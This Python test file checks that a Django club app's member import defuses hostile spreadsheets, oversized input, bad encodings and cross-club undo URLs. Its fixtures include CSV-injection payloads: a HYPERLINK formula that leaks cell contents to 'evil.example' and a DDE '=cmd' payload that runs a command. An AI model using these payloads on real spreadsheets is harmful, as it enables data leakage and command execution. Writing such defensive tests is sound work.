"""Attacks on the member sheet's columns (first name, insertion, surname, phone, e-mail) and on
undoing an import: formulas in cells, huge cells, 100,000 rows, wrong encodings and another
club's import in the undo URL. Each is bounded and refused or defused with a sentence, never a
500, and nothing is saved until the secretary confirms."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook

from clubmanager.models import Member, MemberImport

pytestmark = pytest.mark.django_db


def preview(client: Any, club: Any, data: bytes, name: str = "leden.csv") -> Any:
    handle = io.BytesIO(data)
    handle.name = name
    return client.post(reverse("clubmanager:member_import", kwargs={"club": club.slug}),
                       {"file": handle})


def text_of(response: Any) -> str:
    return response.content.decode()


def xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Klik")', "=cmd|' /C calc'!A0",
            "+31612345678", "-2+3", "@SUM(1,2)"]


def test_formula_text_in_a_csv_never_becomes_a_formula_anywhere(admin_client: Any,
                                                                 club: Any) -> None:
    rows = "\n".join(f"Lid {i};{i + 1};{f};x{i}@voorbeeld.nl" for i, f in enumerate(FORMULAS))
    rows += '\n=HYPERLINK("http://evil.example","Klik");9;0612345678;=1+1\n'
    response = preview(admin_client, club, f"naam;nr;telefoon;e-mail\n{rows}".encode())
    assert response.status_code == 200
    page = text_of(response)
    assert "<a href=\"http://evil.example" not in page
    # formulas and cells that are no phone number are left out, each with a sentence; a row
    # whose name is a formula has no name, and is refused
    assert page.count("is geen telefoonnummer; het lid komt erin zonder.") == 2, page
    assert page.count(", niet de waarde ervan.") == 4, page
    admin_client.post(reverse("clubmanager:member_import_confirm", kwargs={"club": club.slug}),
                      {"token": response.context["token"]})
    phones = sorted(Member.objects.filter(club=club).values_list("phone", flat=True))
    assert phones == ["", "", "", "", "+31612345678"], phones
    assert not Member.objects.filter(club=club, email__startswith="=").exists()


def test_formula_cells_in_an_xlsx_are_read_by_their_value_or_left_out(admin_client: Any,
                                                                      club: Any) -> None:
    data = xlsx([["Voornaam", "Tussenvoegsel", "Achternaam", "Telefoon"],
                 ["Ann", "de", '=HYPERLINK("http://evil.example","Vries")', "=cmd|' /C calc'!A0"],
                 ["=A2", None, "Jansen", "0612345678"]])
    response = preview(admin_client, club, data, "leden.xlsx")
    assert response.status_code == 200
    items = response.context["preview"]
    values = [(item.row.name, item.row.phone) for item in items]
    assert not [v for pair in values for v in pair if v.startswith("=") or "calc" in v], values
    assert Member.objects.filter(club=club).count() == 0  # nothing saved before confirming


def test_a_huge_cell_is_bounded_with_a_sentence(admin_client: Any, club: Any) -> None:
    huge = "A" * 1_000_000
    response = preview(admin_client, club,
                       f"voornaam;achternaam;telefoon\n{huge};Jansen;{'9' * 5000}\n".encode())
    assert response.status_code == 200
    page = text_of(response)
    assert huge not in page
    assert len(response.content) < 200_000


def test_a_hundred_thousand_rows_are_refused_with_a_sentence(admin_client: Any,
                                                              club: Any) -> None:
    rows = "".join(f"L{i};{i}\n" for i in range(100_000))
    response = preview(admin_client, club, f"naam;nr\n{rows}".encode())
    assert response.status_code == 200
    page = text_of(response)
    assert "meer dan 5.000 rijen. Importeer maximaal 5.000 leden per keer." in page
    assert Member.objects.filter(club=club).count() == 0


@pytest.mark.parametrize(("data", "name"), [
    ("naam;nr\nJosé Müller;1\n".encode("utf-16"), "leden.csv"),
    ("naam;nr\nJosé Müller;1\n".encode("cp1252"), "leden.csv"),
    (b"\xff\xfe\x00\x00garbage\x00\x01\x02" * 50, "leden.csv"),
    (b"PK\x03\x04 not really a zip" * 10, "leden.xlsx"),
    ("naam;nr\nJosé Müller;1\n".encode(), "leden.xlsx"),
])
def test_wrong_encodings_and_disguised_files_get_a_sentence(admin_client: Any, club: Any,
                                                            data: bytes, name: str) -> None:
    response = preview(admin_client, club, data, name)
    assert response.status_code == 200
    page = text_of(response)
    if response.context.get("preview") is not None:
        names = [item.row.name for item in response.context["preview"]]
        assert names == ["José Müller"], names  # read right, or not at all
    else:
        assert 'role="alert"' in page or "errorlist" in page, page[:3000]
    assert Member.objects.filter(club=club).count() == 0


def test_another_clubs_import_cannot_be_seen_or_undone(client_for: Any, club: Any,
                                                       other_club: Any, admin_user: Any,
                                                       other_admin_user: Any) -> None:
    theirs = client_for(other_admin_user)
    response = preview(theirs, other_club, b"naam;nr\nAnn;11\n")
    theirs.post(reverse("clubmanager:member_import_confirm", kwargs={"club": other_club.slug}),
                {"token": response.context["token"]})
    batch = MemberImport.objects.get(club=other_club)
    mine = client_for(admin_user)
    for url in [reverse("clubmanager:member_import_undo", kwargs={"club": club.slug,
                                                                   "pk": batch.pk}),
                reverse("clubmanager:member_import_undo", kwargs={"club": other_club.slug,
                                                                   "pk": batch.pk})]:
        assert mine.get(url).status_code in (403, 404)
        assert mine.post(url).status_code in (403, 404)
    for bad in ["999999999", "0", "-1", "abc", "1e3", "%00", "9" * 40]:
        got = mine.get(f"/clubs/{club.slug}/members/imports/{bad}/undo/")
        assert got.status_code == 404, (bad, got.status_code)
    assert Member.objects.filter(club=other_club, name="Ann").exists()
